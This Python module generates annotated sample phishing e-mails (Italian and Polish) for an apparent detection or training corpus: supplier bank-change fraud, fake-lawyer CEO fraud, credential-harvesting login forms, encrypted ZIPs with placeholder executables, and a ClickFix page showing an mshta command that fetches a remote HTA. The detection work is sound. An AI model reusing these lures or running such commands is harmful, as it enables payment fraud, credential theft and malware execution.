"""Attack messages 17-26 (Italian, Polish)."""
import docs
import mime
from company import S, P, BANK, iban, bic, FERRETTI_PIVA
from kit import (alt, mixed, plain, pdf_att, zip_att, html_att, sig, b64url, ol_quote, old_msgid, VAT)
from message import Mail
from util import utc

LOGIN_FORM = """<!DOCTYPE html>
<html lang="%(lang)s"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>%(title)s</title>
<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:%(bg)s}
.box{width:360px;margin:70px auto;background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:22px;font-weight:600;margin:14px 0 6px}p{font-size:13px;color:#444}
input{width:100%%;box-sizing:border-box;border:0;border-bottom:1px solid #666;padding:8px 0;margin:10px 0;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px;float:right;margin-top:12px}</style></head>
<body><!-- inert test sample: no script; the form target is a fictitious collection endpoint -->
<div class="box"><div style="font-size:13px;color:#666">%(brand)s</div><h1>%(heading)s</h1><p>%(intro)s</p>
<form method="post" action="%(action)s">
<input type="email" name="login" value="%(email)s" readonly>
<input type="password" name="passwd" placeholder="%(pwlabel)s" required>
<input type="hidden" name="ref" value="%(ref)s">
<button type="submit">%(button)s</button></form><div style="clear:both"></div></div></body></html>
"""


def build():
    M = []

    # 17 ---------------------------------------------------------------
    new = iban("mule_lt")
    body = """Gentile Cliente,

con la presente Vi comunichiamo che, a seguito della riorganizzazione della tesoreria del nostro gruppo, a partire dal 1° novembre 2026 tutti i pagamenti a favore di Ferretti Trasporti S.p.A. dovranno essere effettuati esclusivamente sul seguente conto corrente:

Beneficiario: Ferretti Trasporti S.p.A.
Banca: %s
IBAN: %s
BIC/SWIFT: %s

Il conto presso Banco BPM verrà chiuso in data 15/11/2026; eventuali bonifici ricevuti su tale conto dopo questa data saranno respinti.

Vi preghiamo pertanto di aggiornare la Vostra anagrafica fornitori e di saldare le fatture n. 2026/1487 e n. 2026/1532 in scadenza il 31/10 direttamente sul nuovo conto. In allegato la comunicazione ufficiale su carta intestata.

Per ragioni di riservatezza Vi chiediamo di inviare la conferma dell'avvenuto aggiornamento esclusivamente rispondendo a questa e-mail.

Ringraziando per la collaborazione, porgiamo cordiali saluti.

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via Monte Baldo 14 - 37062 Dossobuono di Villafranca (VR)
""" % (BANK["mule_lt"][0], new, bic("mule_lt"))
    t = utc(2026, 10, 26, 9, 41, 6)
    letter = [("FERRETTI TRASPORTI S.p.A.", 15, True), ("Via Monte Baldo 14 - 37062 Dossobuono di Villafranca (VR) - P.IVA " + FERRETTI_PIVA, 8, False), "",
              "Spett.le Example Group Italia S.r.l.", "Via dell'Industria 18", "37135 Verona", "",
              "Dossobuono, 26/10/2026", "", ("Oggetto: variazione coordinate bancarie", 12, True), "",
              "Con la presente comunichiamo che dal 01/11/2026 le nuove coordinate bancarie per tutti i pagamenti sono:",
              "Banca: " + BANK["mule_lt"][0], "IBAN: " + new, "BIC: " + bic("mule_lt"), "",
              "Il precedente conto presso Banco BPM sarà chiuso il 15/11/2026.", "", "Distinti saluti", "",
              "L'Amministratore Delegato", "Ferretti Trasporti S.p.A."]
    M.append(Mail("17-it-carrier-bank-change-lookalike", t,
                  ("Amministrazione Ferretti Trasporti", "amministrazione@ferretti-trasporti.com"), [S("it_acc")],
                  "Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.p.A.",
                  mixed(alt(body, "iso-8859-1", "quoted-printable", "outlook", "it"),
                        pdf_att("Comunicazione_variazione_IBAN_Ferretti.pdf", letter, creator="Microsoft® Word 2019",
                                producer="Microsoft® Word 2019")),
                  via="smtp", ua="outlook16", cc=[("Chiara Colombo", "c.colombo@ferretti-trasporti.com")],
                  hcs="iso-8859-1", henc="Q", sys=dict(prov="privateemail", client_ip="102.89.47.163"),
                  technique="Carrier bank-detail change from a look-alike domain (BEC) on Namecheap Private Email",
                  what="'Ferretti administration' announces a new Lithuanian account and asks to pay two invoices there, replying only by e-mail.",
                  why="ferretti-trasporti.com instead of ferretti-trasporti.it, hosted on privateemail.com and submitted from a Nigerian IP; Italian carrier suddenly banking with a Lithuanian payment institution; CC to a fake copy of the real contact; verification by phone discouraged.",
                  pair=["B17"]))

    # 18 ---------------------------------------------------------------
    form = LOGIN_FORM % dict(lang="it", title="Fatture e Corrispettivi - Ricevuta di scarto", bg="#e9eef3",
                             brand="Agenzia delle Entrate &middot; Fatture e Corrispettivi", heading="Accedi per visualizzare la ricevuta",
                             intro="Il documento " + VAT["IT"] + "_a7K3m.xml.p7m &egrave; protetto. Conferma la password della tua casella aziendale per proseguire.",
                             action="https://fatture-corrispettivi.agenziaentrate-sdi.info/ricevuta/post.php",
                             email="francesca.galli@example.com", pwlabel="Password", ref="NS-00404-a7K3m", button="Accedi")
    body = """Gentile contribuente,

il file fattura {FN}.xml.p7m trasmesso in data 02/11/2026 è stato scartato dal Sistema di Interscambio (SdI).

Codice errore: 00404 - Fattura duplicata
Identificativo SdI: 18437702961

Ai sensi dell'art. 21 del DPR 633/72 la fattura scartata si considera non emessa: è necessario ritrasmetterla entro 5 giorni dalla data della notifica di scarto.

In allegato trova la ricevuta di scarto. Per visualizzarla è richiesto l'accesso con le credenziali della casella aziendale.

Cordiali saluti
Sistema di Interscambio - Fatture e Corrispettivi
Messaggio generato automaticamente, si prega di non rispondere.
""".replace("{FN}", VAT["IT"] + "_a7K3m")
    M.append(Mail("18-it-sdi-einvoice-html-attachment-phish", utc(2026, 11, 4, 7, 19, 52),
                  ("SdI - Fatture e Corrispettivi", "info@pasticceriadonatelli.it"), [S("it_acc")],
                  "Notifica di scarto - File %s_a7K3m.xml.p7m - Codice 00404" % VAT["IT"],
                  mixed(plain(body, "utf-8", "8bit"), html_att("Ricevuta_scarto_NS_18437702961.html", form)),
                  via="smtp", ua="none", sys=dict(prov="aruba", client_ip="45.141.215.88"),
                  technique="Credential phishing with HTML attachment (fake SdI/Agenzia delle Entrate e-invoice rejection) from a compromised mailbox",
                  what="'SdI' reports a rejected e-invoice; the attached HTML 'receipt' is a login form asking for the mailbox password.",
                  why="Sent from a pastry shop's compromised Aruba mailbox with a spoofed display name; SdI notifications arrive via PEC/the portal as XML, never as HTML requesting the mail password; form posts to a non-government domain.",
                  pair=["B17"]))

    # 19 ---------------------------------------------------------------
    prev_t = utc(2026, 11, 2, 8, 2, 0)
    prev = """Ciao Chiara,

per la settimana 45 ci servono i ritiri di martedì (6 bancali per Bologna, Tipografia Reno) e giovedì (4 bancali per Padova). Gli orari di carico restano 8:00-12:00, baia 2.

Mi mandi poi i DDT firmati come al solito?

Grazie
Alessandro"""
    body = """Buonasera Alessandro,

come richiesto in allegato i DDT firmati e le prove di consegna della settimana.

Il file è protetto per la privacy dei destinatari, la password è: 4521

Fammi sapere se manca qualcosa.

Cordiali saluti
Chiara Colombo
Ufficio Traffico
Ferretti Trasporti S.p.A.
Tel. 045 860 4417
""" + ol_quote("it", S("it_mgr"), prev_t, [P("ferretti")], "Ritiri settimana 45 - Bologna e Padova", prev)
    t = utc(2026, 11, 11, 17, 48, 5)
    irt = old_msgid("A19-prev")
    M.append(Mail("19-it-thread-hijack-carrier-encrypted-zip", t, P("ferretti"), [S("it_mgr")],
                  "R: Ritiri settimana 45 - Bologna e Padova",
                  mixed(alt(body, "iso-8859-1", "quoted-printable", "outlook", "it"),
                        zip_att("DDT_firmati_sett45.zip", [("DDT_firmati_sett45.vbs", docs.PLACEHOLDER, (2026, 11, 11, 18, 40, 2))],
                                password="4521", ctype="application/x-zip-compressed", outlook=True, t=t)),
                  via="smtp", ua="outlook16", irt=irt, refs=irt, hcs="iso-8859-1", henc="Q",
                  sys=dict(prov="aruba", client_ip="91.92.251.36", pc="WIN-R2K8OQ7N1LM", content_lang="it", thread_depth=1),
                  technique="Reply-chain (thread) hijack from a compromised carrier mailbox with password-protected ZIP containing a VBS script",
                  what="In a real thread about pick-ups, 'Chiara' sends 'signed delivery notes' as an encrypted ZIP with the password in the body.",
                  why="Genuine Ferretti Aruba account, but submitted from a foreign VPS IP; the carrier normally sends DDTs as PDF (see B18); the archive holds a .vbs (placeholder) and is encrypted to defeat scanning - Italian malspam pattern.",
                  pair=["B18"]))
    M[-1].zip_password = "4521"

    # 20 ---------------------------------------------------------------
    body = """Gentile Dott.ssa Galli,

mi presento: sono l'Avv. Giorgio Ferraresi, partner dello Studio Legale Ferraresi & Associati di Milano. Su incarico del Dott. Matthias Köhler seguiamo, in via strettamente riservata, l'acquisizione da parte del Gruppo di una cartotecnica con sede nella provincia di Verona.

Il Dott. Köhler mi ha chiesto di contattarLa direttamente, poiché per ragioni fiscali il deposito cauzionale sarà anticipato dalla controllata italiana. Si tratta di un importo di 148.500,00 EUR da versare entro oggi sul conto vincolato (escrow) dello Studio presso la nostra banca corrispondente a Londra:

Beneficiario: Ferraresi & Associati Client Account
IBAN: %s
BIC: %s
Causale: Deposito cauzionale - Progetto Adige

L'operazione è coperta da un accordo di riservatezza (NDA) e da obblighi di comunicazione al mercato del venditore: La prego quindi di non parlarne con i colleghi né con la sede di Augsburg, in particolare con l'amministrazione centrale, fino all'annuncio ufficiale previsto per lunedì. Il Dott. Köhler Le scriverà a breve per confermarLe personalmente l'incarico.

Resto a disposizione per qualsiasi chiarimento, preferibilmente via e-mail poiché sono in riunione per gran parte della giornata.

Cordiali saluti

Avv. Giorgio Ferraresi
Studio Legale Ferraresi & Associati
Corso di Porta Nuova 38 - 20121 Milano
""" % (iban("mule_gb"), bic("mule_gb"))
    M.append(Mail("20-it-fake-lawyer-ceo-fraud-escrow", utc(2026, 11, 19, 10, 6, 14),
                  ("Avv. Giorgio Ferraresi", "g.ferraresi@studiolegale-ferraresi.eu"), [S("it_acc")],
                  "Riservato - Operazione straordinaria Example Group - istruzioni di pagamento",
                  alt(body, "utf-8", "quoted-printable", "plain", "it"), via="smtp", ua="zoho",
                  sys=dict(prov="zoho", client_ip="185.107.56.219"),
                  technique="Fake lawyer variant of CEO fraud (escrow payment, secrecy)",
                  what="A 'Milan lawyer' instructed by the CEO asks the Italian accountant to pay a 148,500 EUR escrow deposit to a London account today and keep it secret from HQ.",
                  why="Newly registered studio domain on Zoho Mail; same-day foreign transfer, explicit instruction to hide it from central finance, contact by e-mail only - the CEO-fraud lawyer script.",
                  pair=["B01"]))

    # 21 ---------------------------------------------------------------
    page = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Listino 2027 - Verifica di sicurezza</title>
<style>body{font-family:system-ui,Arial,sans-serif;background:#f9f9f9;color:#222}
.c{max-width:560px;margin:80px auto;background:#fff;border:1px solid #ddd;padding:32px}
code{display:block;background:#f1f1f1;padding:10px;font-size:12px;word-break:break-all}ol li{margin:8px 0}</style></head>
<body><!-- inert test sample: the clipboard-writing script of the real lure has been removed -->
<div class="c"><h2>Inchiostri Veneti &ndash; Area documenti riservati</h2>
<p><b>Verifica di essere un essere umano</b></p>
<p>Per proteggere i listini riservati ai clienti completa la verifica:</p>
<ol><li>Premi il tasto <b>Windows</b> + <b>R</b></li><li>Premi <b>CTRL</b> + <b>V</b> per incollare il codice di verifica</li><li>Premi <b>Invio</b></li></ol>
<p>Codice di verifica copiato negli appunti:</p>
<code>mshta https://cdn.inchiostri-veneti.com/verifica/listino2027.hta # Non sono un robot - ID verifica 7731-2204</code>
<p style="font-size:12px;color:#777">Il download del listino (PDF, 2,4 MB) partir&agrave; automaticamente dopo la verifica.</p></div></body></html>
"""
    txt = """Gentile Cliente,

in allegato trova il listino prezzi 2027 per inchiostri offset (serie ProPress, Sheetfed LowMig) e flexo a base acqua, valido dal 1° gennaio 2027.

Per motivi di riservatezza il documento è accessibile solo ai clienti registrati: apra l'allegato e completi la breve verifica di sicurezza per scaricare il PDF.

Per ordini entro il 15 dicembre manteniamo i prezzi 2026.

Cordiali saluti
Ufficio Commerciale
Inchiostri Veneti S.r.l.
"""
    M.append(Mail("21-it-clickfix-fake-price-list", utc(2026, 11, 25, 8, 30, 0),
                  ("Inchiostri Veneti", "listini@inchiostri-veneti.com"), [S("it_mgr")],
                  "Listino prezzi 2027 inchiostri offset e flexo - documento riservato clienti",
                  mixed(alt(txt, "utf-8", "quoted-printable", "plain", "it"), html_att("Listino_2027_Inchiostri_Veneti.html", page)),
                  via="brevo", sys=dict(bdom="bounces.inchiostri-veneti.com"),
                  technique="ClickFix (fake 'verify you are human' instructing Win+R / paste / Enter) via HTML attachment",
                  what="'Ink supplier price list 2027' HTML attachment tells the user to press Win+R, paste a 'verification code' and press Enter.",
                  why="Look-alike inchiostri-veneti.com (real: inchiostriveneti.it) via Brevo; the pasted command runs mshta against a remote HTA - the ClickFix technique; real price list comes as a newsletter with the PDF on the supplier's own site (see B20).",
                  pair=["B20"]))

    # 22 ---------------------------------------------------------------
    new = iban("mule_pl")
    body = """Szanowni Państwo,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę od dnia 02.11.2026 r. prosimy o regulowanie wszystkich należności wyłącznie na nowy rachunek bankowy:

Partner Logistik sp. z o.o.
%s
%s

Dotychczasowy rachunek w PKO BP zostanie zamknięty z dniem 30.11.2026 r.

Nowy rachunek zostanie zgłoszony do wykazu podatników VAT (biała lista) w ciągu kilku dni roboczych - do tego czasu prosimy nie sugerować się jego brakiem w wykazie. Faktury FV/2026/10/318 oraz FV/2026/10/342 prosimy uregulować już na nowy rachunek.

Prosimy o potwierdzenie wprowadzenia zmiany w odpowiedzi na tę wiadomość.

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Rabowicka 14, 62-020 Swarzędz
""" % (BANK["mule_pl"][0], new)
    M.append(Mail("22-pl-logistics-bank-change-lookalike", utc(2026, 10, 28, 12, 14, 39),
                  ("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.com.pl"), [S("pl_acc")],
                  "Zmiana rachunku bankowego - Partner Logistik sp. z o.o.",
                  plain(body, "UTF-8", "8bit", flowed=True), via="smtp", ua="thunderbird",
                  sys=dict(prov="postfix", server="mail.partner-logistik.com.pl", rdns="vps-4f1c82ab.vps.ovh.net",
                           ip="57.128.193.44", client_ip="194.26.192.77"),
                  technique="Logistics-partner bank-detail change from a look-alike domain (BEC)",
                  what="'Partner Logistik accounting' announces a new account at another bank and asks to pay two invoices there.",
                  why="partner-logistik.com.pl instead of partner-logistik.pl, on an OVH VPS; pre-emptively tells the accountant to ignore that the account is missing from the VAT white list (payments to non-listed accounts lose tax deductibility - a red flag by law); no phone verification.",
                  pair=["B22"]))

    # 23 ---------------------------------------------------------------
    link = "https://ap-ksef.mf-gov.com.pl/web/uwierzytelnienie?nip=%s&ref=TK-77124" % VAT["PL"][2:]
    txt = """Krajowy System e-Faktur (KSeF) - powiadomienie

Szanowni Państwo,

informujemy, że token uwierzytelniający KSeF przypisany do podmiotu:

EXAMPLE GROUP POLSKA SP. Z O.O.
NIP: %s

wygasa w dniu 30.11.2026 r. Po tym terminie nie będzie możliwe odbieranie ani wystawianie faktur ustrukturyzowanych, co może skutkować sankcjami określonymi w art. 106ni ustawy o VAT.

Aby zachować ciągłość, należy ponownie uwierzytelnić podmiot w Aplikacji Podatnika KSeF (logowanie przez bankowość elektroniczną lub profil zaufany):

%s

Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.
Ministerstwo Finansów - Krajowa Administracja Skarbowa
""" % (VAT["PL"][2:], link)
    html = """<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;background:#f4f4f4">
<div style="max-width:600px;margin:20px auto;background:#fff;border-top:5px solid #d4213d">
<div style="padding:18px 26px;font-size:13px;color:#555">Krajowy System e-Faktur (KSeF) &ndash; powiadomienie</div>
<div style="padding:0 26px 26px 26px;font-size:14px;color:#222;line-height:1.5">
<p>Szanowni Pa&#324;stwo,</p><p>informujemy, &#380;e token uwierzytelniaj&#261;cy KSeF przypisany do podmiotu:</p>
<p style="background:#f6f6f6;padding:10px"><b>EXAMPLE GROUP POLSKA SP. Z O.O.</b><br>NIP: %s</p>
<p>wygasa w dniu <b>30.11.2026 r.</b> Po tym terminie nie b&#281;dzie mo&#380;liwe odbieranie ani wystawianie faktur ustrukturyzowanych, co mo&#380;e skutkowa&#263; sankcjami okre&#347;lonymi w art. 106ni ustawy o VAT.</p>
<p style="text-align:center"><a href="%s" style="background:#d4213d;color:#fff;padding:11px 24px;text-decoration:none">Uwierzytelnij podmiot</a></p>
<p style="font-size:11px;color:#888">Wiadomo&#347;&#263; wygenerowana automatycznie. Ministerstwo Finans&oacute;w &ndash; Krajowa Administracja Skarbowa</p></div></div></body></html>
""" % (VAT["PL"][2:], link)
    M.append(Mail("23-pl-ksef-einvoice-token-phish", utc(2026, 11, 17, 6, 45, 13),
                  ("KSeF - Ministerstwo Finansów", "powiadomienia@ksef-mf.com.pl"), [S("pl_acc")],
                  "KSeF: wygaśnięcie tokenu uwierzytelniającego - wymagana ponowna autoryzacja",
                  alt(txt, "UTF-8", "base64", html=html), via="ses",
                  technique="Credential/banking-login phishing themed on Poland's mandatory e-invoicing system (KSeF) via Amazon SES",
                  what="'Ministry of Finance' warns the KSeF token expires and asks to re-authenticate via online banking on a linked page.",
                  why="Look-alike domains ksef-mf.com.pl / mf-gov.com.pl instead of ksef.mf.gov.pl / podatki.gov.pl, sent through SES; the ministry does not e-mail token expiry warnings with login links (see internal notice B23); sanction threat.",
                  pair=["B23"]))

    # 24 ---------------------------------------------------------------
    t = utc(2026, 11, 26, 14, 3, 38)
    body = """Dzień dobry,

w załączeniu przesyłam korektę faktury FV/1184/11/2026 zgodnie z wcześniejszymi ustaleniami.

Ze względu na dane osobowe plik jest zabezpieczony hasłem: Fv2026

Proszę o potwierdzenie otrzymania.

Pozdrawiam
Marek Dudek
DUDEK-POL Opakowania
tel. 604 218 377
"""
    M.append(Mail("24-pl-fake-invoice-correction-encrypted-zip", t,
                  ("Marek Dudek | DUDEK-POL", "biuro@dudek-pol.pl"), [S("pl_mgr")],
                  "Korekta faktury FV/1184/11/2026",
                  mixed(alt(body, "windows-1250", "quoted-printable", "outlook", "pl"),
                        zip_att("FV_1184_11_2026_korekta.zip", [("FV_1184_11_2026_korekta.pdf.exe", docs.PLACEHOLDER, (2026, 11, 26, 14, 58, 40))],
                                password="Fv2026", ctype="application/x-zip-compressed", outlook=True, t=t)),
                  via="smtp", ua="outlook16", hcs="windows-1250", henc="Q",
                  sys=dict(prov="homepl", client_ip="5.181.86.203", content_lang="pl"),
                  technique="Malspam from a compromised small-business mailbox: password-protected ZIP with a double-extension executable",
                  what="A packaging firm with no business relationship sends an 'invoice correction' as an encrypted ZIP, password in the body.",
                  why="No prior invoice FV/1184 exists, sender unknown; the archive holds 'korekta.pdf.exe' (placeholder) and is encrypted to evade scanning; mailbox of a real small firm abused from a foreign IP.",
                  pair=["B24"]))
    M[-1].zip_password = "Fv2026"

    # 25 ---------------------------------------------------------------
    link = "https://email.pkobp-biznes.pl/c/eJxFjkEOgyAQRU9jd8YAItYFi57DcRgKFRRBm3j7YrVJ3-7P5P1MkpA"
    txt = """PKO Bank Polski - iPKO biznes

Szanowny Kliencie,

w związku z wdrożeniem nowych wymogów dotyczących silnego uwierzytelniania (PSD3) konieczna jest ponowna weryfikacja danych autoryzacyjnych użytkowników serwisu iPKO biznes.

Do czasu aktualizacji dyspozycje przelewów powyżej 10 000 PLN będą wymagały dodatkowej akceptacji Banku. Aktualizację należy przeprowadzić do 14.11.2026 r.

Zaktualizuj dane: %s

Z wyrazami szacunku
Zespół Bankowości Elektronicznej
PKO Bank Polski S.A.
""" % link
    html = """<html><head><meta charset="utf-8"></head><body style="margin:0;background:#eef1f4;font-family:Arial,Helvetica,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#003574;padding:20px 28px;color:#fff;font-size:18px"><b>PKO</b> Bank Polski &nbsp;|&nbsp; iPKO biznes</td></tr>
<tr><td style="padding:26px 28px;font-size:14px;line-height:1.6;color:#222">
<p>Szanowny Kliencie,</p>
<p>w zwi&#261;zku z wdro&#380;eniem nowych wymog&oacute;w dotycz&#261;cych silnego uwierzytelniania (PSD3) konieczna jest ponowna weryfikacja danych autoryzacyjnych u&#380;ytkownik&oacute;w serwisu iPKO biznes.</p>
<p>Do czasu aktualizacji dyspozycje przelew&oacute;w powy&#380;ej 10 000 PLN b&#281;d&#261; wymaga&#322;y dodatkowej akceptacji Banku. Aktualizacj&#281; nale&#380;y przeprowadzi&#263; do <b>14.11.2026 r.</b></p>
<p style="text-align:center;padding:10px"><a href="%s" style="background:#003574;color:#fff;text-decoration:none;padding:12px 30px;border-radius:4px">Zaktualizuj dane</a></p>
<p>Z wyrazami szacunku<br>Zesp&oacute;&#322; Bankowo&#347;ci Elektronicznej<br>PKO Bank Polski S.A.</p></td></tr>
<tr><td style="padding:14px 28px;font-size:10px;color:#777;background:#f6f7f9">PKO Bank Polski S.A., ul. Pu&#322;awska 15, 02-515 Warszawa. Wiadomo&#347;&#263; wygenerowana automatycznie.</td></tr></table>
<img width="1" height="1" src="https://email.pkobp-biznes.pl/o/eJxFjkEOgyAQRU9jd8YAItY"></body></html>
""" % link
    M.append(Mail("25-pl-bank-credential-phish-mailgun", utc(2026, 11, 6, 8, 22, 51),
                  ("PKO Bank Polski", "powiadomienia@pkobp-biznes.pl"), [S("pl_mgr")],
                  "iPKO biznes: wymagana aktualizacja danych autoryzacyjnych do 14.11.2026",
                  alt(txt, "utf-8", "quoted-printable", html=html), via="mailgun",
                  sys=dict(mgdom="mg.pkobp-biznes.pl"),
                  technique="Corporate e-banking credential phishing via Mailgun with click tracking",
                  what="'PKO BP iPKO biznes' demands a re-verification of authorisation data before a deadline.",
                  why="pkobp-biznes.pl is not PKO's domain (pkobp.pl), sent through Mailgun; invented 'PSD3' requirement, transfer-limit threat, tracked link to a credential page; the Polish office banks with Santander anyway.",
                  pair=[]))

    # 26 ---------------------------------------------------------------
    acct = iban("mule_pl2")
    body = """Szanowni Państwo,

w nawiązaniu do danych podmiotu EXAMPLE GROUP POLSKA SP. Z O.O. (NIP %s) przekazujemy w załączeniu formularz aktualizacji wpisu w Centralnej Ewidencji Podmiotów Gospodarczych na rok 2027.

Opłata za aktualizację wpisu wynosi 1 450,00 zł i powinna zostać uiszczona w terminie 7 dni na rachunek wskazany w formularzu, z podaniem numeru sprawy CEPG/2026/11/4471.

Z poważaniem
Dział Rejestracji
Centralna Ewidencja Podmiotów Gospodarczych
""" % VAT["PL"][2:]
    pdfb = [("CENTRALNA EWIDENCJA PODMIOTÓW GOSPODARCZYCH", 14, True), ("Dział Rejestracji · skr. poczt. 118 · 00-950 Warszawa", 8, False), "",
            ("FORMULARZ AKTUALIZACJI WPISU  nr sprawy CEPG/2026/11/4471", 12, True), "",
            "Podmiot: EXAMPLE GROUP POLSKA SP. Z O.O.", "Adres: ul. Głogowska 248, 60-104 Poznań", "NIP: " + VAT["PL"][2:], "",
            "Opłata za aktualizację i publikację wpisu na rok 2027:      1 450,00 zł", "Termin płatności: 7 dni od daty doręczenia",
            "Rachunek: " + acct, "Tytuł przelewu: CEPG/2026/11/4471", "",
            ("Informacja: CEPG jest prywatną bazą danych o charakterze informacyjno-reklamowym i nie jest rejestrem urzędowym. "
             "Wpis nie jest obowiązkowy. Dokonanie wpłaty oznacza przyjęcie oferty i zawarcie umowy na okres 36 miesięcy.", 6, False)]
    M.append(Mail("26-pl-fake-register-fee-form", utc(2026, 11, 30, 10, 1, 0),
                  ("CEPG - Dział Rejestracji", "rejestracja@cepg-ewidencja.pl"), [S("pl_acc")],
                  "Aktualizacja wpisu CEPG 2027 - EXAMPLE GROUP POLSKA SP. Z O.O. - sprawa CEPG/2026/11/4471",
                  mixed(plain(body, "iso-8859-2", "8bit"), pdf_att("Formularz_CEPG_2026_11_4471.pdf", pdfb, creator="mPDF 8.2", producer="mPDF 8.2")),
                  via="smtp", ua="phpmailer", hcs="iso-8859-2", henc="Q",
                  sys=dict(prov="postfix", server="srv618273.hstgr.cloud", ip="147.79.118.52", local_php=True, php_host="cepg-ewidencja.pl"),
                  technique="Fake business-register fee (private directory offer disguised as an official registration fee)",
                  what="'Central Register of Business Entities' asks for a 1,450 PLN 'update fee' with an official-looking form.",
                  why="No such public register (CEIDG/KRS are free and official on gov.pl); fine print admits a private advertising database with a 36-month contract; PHPMailer on a Hostinger VPS.",
                  pair=["B24"]))
    return M
